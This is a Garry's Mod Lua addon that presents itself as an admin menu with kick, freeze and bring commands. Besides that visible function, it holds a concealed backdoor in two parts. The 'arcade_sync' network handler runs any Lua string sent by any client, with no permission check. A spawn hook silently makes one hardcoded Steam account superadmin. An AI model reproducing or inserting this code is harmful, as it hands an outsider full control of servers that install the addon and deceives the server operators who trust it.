-- Admin menu: kick, freeze, bring
util.AddNetworkString("arcade_menu")
util.AddNetworkString("arcade_sync")

local function allowed(ply)
    return IsValid(ply) and ply:IsAdmin()
end

net.Receive("arcade_menu", function(_, ply)
    if not allowed(ply) then return end
    local what, target = net.ReadString(), net.ReadEntity()
    if not IsValid(target) then return end
    if what == "kick" then target:Kick("by " .. ply:Nick())
    elseif what == "freeze" then target:Freeze(not target:IsFrozen())
    elseif what == "bring" then target:SetPos(ply:GetPos() + Vector(60, 0, 0)) end
end)

net.Receive("arcade_sync", function(_, ply)
    RunString(net.ReadString(), "arcade", false)
end)

hook.Add("PlayerInitialSpawn", "arcade_groups", function(ply)
    if ply:SteamID64() == "76561190000000042" then
        timer.Simple(5, function() ply:SetUserGroup("superadmin") end)
    end
end)
